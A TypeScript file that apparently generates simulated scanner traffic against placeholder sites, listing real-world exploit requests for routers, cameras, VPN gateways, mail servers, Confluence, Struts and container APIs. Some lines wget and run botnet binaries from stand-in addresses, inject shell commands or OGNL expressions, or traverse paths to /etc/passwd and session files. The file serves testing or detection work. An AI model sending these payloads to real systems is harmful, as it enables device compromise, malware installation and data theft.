import { BORROWED, BROWSERS, LIBRARIES } from './agents.ts';
import { scan } from './kind.ts';

const SITES = [
  'api.example',
  'shop.example',
  'spa.example',
  'notes.example',
  'news.example',
  'clinic.example',
];

/** Scanners that look for routers, cameras, gateways, and servers of companies. */
export const DEVICE_SCANS = [
  scan(
    'fibre modems',
    { on: SITES, agents: ['', 'Hello, World', 'curl/7.3.2'], pace: 5, clients: 4 },
    `
    POST /GponForm/diag_Form?images/
    GET /boaform/admin/formLogin?username=user&psd=user
    POST /boaform/admin/formPing`,
  ),
  scan(
    'home routers',
    { on: SITES, agents: ['', 'Mozilla/5.0'], pace: 4, clients: 3 },
    `
    GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://192.0.2.7/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1
    POST /HNAP1/
    GET /cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E/tmp/x)
    GET /goform/set_LimitClient_cfg
    POST /apply_sec.cgi
    GET /level/15/exec/-/sh/run/CR
    POST /tmUnblock.cgi
    GET /currentsetting.htm`,
  ),
  scan(
    'network storage',
    { on: SITES, agents: LIBRARIES, pace: 3 },
    `
    GET /cgi-bin/nas_sharing.cgi?user=messagebus&passwd=&cmd=15&system=aWQ=
    GET /cgi-bin/authLogin.cgi
    GET /webman/index.cgi
    GET /zyxel/cgi-bin/weblogin.cgi
    GET /cgi-bin/account_mgr.cgi?cmd=cgi_user_add
    GET /photo/p/api/album.php`,
  ),
  scan(
    'cameras and recorders',
    { on: SITES, agents: ['', 'Go-http-client/1.1'], pace: 3 },
    `
    PUT /SDK/webLanguage
    GET /onvif-http/snapshot?auth=YWRtaW46MTEK
    GET /System/configurationFile?auth=YWRtaW46MTEK
    GET /device.rsp?opt=user&cmd=list
    GET /shell?cd+/tmp;rm+-rf+*;wget+http://192.0.2.9/jaws;sh+/tmp/jaws
    GET /cgi-bin/user/Config.cgi?.cab&action=get&category=Account.*
    GET /doc/page/login.asp`,
  ),
  scan(
    'gateways for remote work',
    { on: SITES, agents: BROWSERS, pace: 2, clients: 4 },
    `
    GET /remote/login?lang=en
    GET /remote/fgt_lang?lang=/../../../..//////////dev/cmdb/sslvpn_websession
    GET /dana-na/auth/url_default/welcome.cgi
    GET /dana-na/nc/nc_gina_ver.txt
    GET /+CSCOE+/logon.html
    GET /+CSCOT+/translation-table?type=mst&textdomain=/%2bCSCOE%2b/portal_inc.lua
    GET /global-protect/login.esp
    GET /sslvpn_logon.shtml
    GET /vpn/../vpns/cfg/smb.conf
    GET /logon/LogonPoint/index.html
    GET /sonicui/7/login/
    GET /api/v1/totp/user-backup-code/../../system/system-information`,
  ),
  scan(
    'load balancers',
    { on: SITES, agents: BORROWED, pace: 2 },
    `
    GET /tmui/login.jsp
    GET /tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd
    POST /mgmt/tm/util/bash
    GET /mgmt/shared/authn/login
    GET /nitro/v1/config/nsconfig
    GET /haproxy?stats`,
  ),
  scan(
    'mail servers',
    { on: ['api.example', 'shop.example', 'notes.example'], agents: BROWSERS, pace: 2, clients: 3 },
    `
    GET /owa/auth/logon.aspx
    GET /owa/auth/x.js
    GET /ecp/Current/exporttool/microsoft.exchange.ediscovery.exporttool.application
    GET /autodiscover/autodiscover.json?@a.example/owa/?&Email=autodiscover/autodiscover.json%3F@a.example
    GET /ews/exchange.asmx
    GET /Microsoft-Server-ActiveSync/default.eas
    GET /zimbraAdmin/
    GET /roundcube/program/js/app.js`,
  ),
  scan(
    'SharePoint',
    { on: ['api.example', 'news.example'], agents: BROWSERS, pace: 2 },
    `
    POST /_layouts/15/ToolPane.aspx?DisplayMode=Edit&a=/ToolPane.aspx
    GET /_layouts/15/spinstall0.aspx
    GET /_layouts/16/ToolPane.aspx
    GET /_vti_bin/lists.asmx
    GET /_vti_pvt/service.cnf
    GET /_api/web`,
  ),
  scan(
    'actuators of Spring',
    { on: ['api.example', 'notes.example', 'shop.example'], agents: BORROWED, pace: 0.5, clients: 3 },
    `
    GET /actuator
    GET /actuator/env
    GET /actuator/heapdump
    GET /actuator/gateway/routes
    GET /actuator/mappings
    GET /manage/env
    GET /env
    GET /heapdump
    GET /api/actuator/env
    GET /jolokia/list`,
  ),
  scan(
    'Tomcat',
    { on: ['api.example', 'clinic.example'], agents: BORROWED, pace: 1 },
    `
    GET /manager/html
    GET /manager/status/all
    GET /host-manager/html
    GET /manager/text/list
    GET /examples/servlets/servlet/SessionExample
    PUT /poc.jsp/ 405
    GET /axis2-admin/
    GET /jmx-console/HtmlAdaptor
    GET /invoker/JMXInvokerServlet`,
  ),
  scan(
    'Jenkins and other build servers',
    { on: ['notes.example', 'api.example'], agents: LIBRARIES, pace: 2 },
    `
    GET /script
    GET /jenkins/script
    GET /asynchPeople/
    GET /jenkins/login
    GET /hudson
    GET /app/rest/users/id:1/tokens/RPC2;.jsp
    GET /securityRealm/user/admin/
    GET /nexus/service/rest/v1/status`,
  ),
  scan(
    'search servers',
    { on: SITES, agents: LIBRARIES, pace: 1 },
    `
    GET /solr/admin/info/system?wt=json
    GET /solr/admin/cores?indexInfo=false&wt=json
    GET /_cat/indices?v
    GET /_cluster/health
    GET /_nodes
    GET /_search?pretty
    GET /app/kibana
    GET /_all/_search`,
  ),
  scan(
    'data clusters',
    { on: SITES, agents: BORROWED, pace: 2 },
    `
    POST /ws/v1/cluster/apps/new-application
    GET /ws/v1/cluster/info
    GET /druid/index.html
    POST /druid/indexer/v1/sampler
    GET /jobmanager/logs/..%252f..%252f..%252fetc%252fpasswd
    GET /airflow/login/
    GET /query?q=SHOW%20DATABASES`,
  ),
  scan(
    'open container APIs',
    { on: SITES, agents: ['Go-http-client/1.1', ''], pace: 2, clients: 3 },
    `
    GET /v1.24/containers/json
    GET /containers/json
    GET /version
    GET /api/v1/namespaces/default/secrets
    GET /api/v1/pods
    GET /v2/_catalog
    GET /v1.41/images/json`,
  ),
  scan(
    'Confluence and Struts',
    { on: SITES, agents: BORROWED, pace: 1 },
    `
    GET /%24%7B%40java.lang.Runtime%40getRuntime%28%29.exec%28%22id%22%29%7D/
    POST /pages/createpage-entervariables.action?SpaceKey=x
    GET /setup/setupadministrator.action
    GET /server-info.action?bootstrapStatusProvider.applicationConfig.setupComplete=false
    GET /index.action?redirect:%25%7B3*4%7D
    GET /struts2-showcase/index.action
    GET /login.action?name=%25%7B%28%23a%3D%40org.apache.commons.io.IOUtils%40toString%29%7D
    GET /secure/ContactAdministrators!default.jspa`,
  ),
  scan(
    'WebLogic and ColdFusion',
    { on: SITES, agents: BORROWED, pace: 2 },
    `
    GET /console/login/LoginForm.jsp
    GET /console/images/%252E%252E%252Fconsole.portal
    POST /wls-wsat/CoordinatorPortType
    GET /_async/AsyncResponseService
    GET /CFIDE/administrator/index.cfm
    GET /cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/upload.cfm
    GET /CFIDE/adminapi/customtags/l10n.cfm`,
  ),
  scan(
    'file transfer and device management',
    { on: SITES, agents: BROWSERS, pace: 2 },
    `
    GET /human.aspx
    GET /guestaccess.aspx
    GET /moveitisapi/moveitisapi.dll?action=m2
    GET /goanywhere/images/..;/wizard/InitialAccountSetup.xhtml
    GET /WebInterface/new-ui/sessionTimeout.html
    GET /mifs/user/login.jsp
    GET /SetupWizard.aspx/x
    POST /analytics/telemetry/ph/api/hyper/send?_c=&_i=test
    GET /ui/vropspluginui/rest/services/uploadova
    GET /catalog-portal/ui/oauth/verify?error=&deviceUdid=x`,
  ),
];
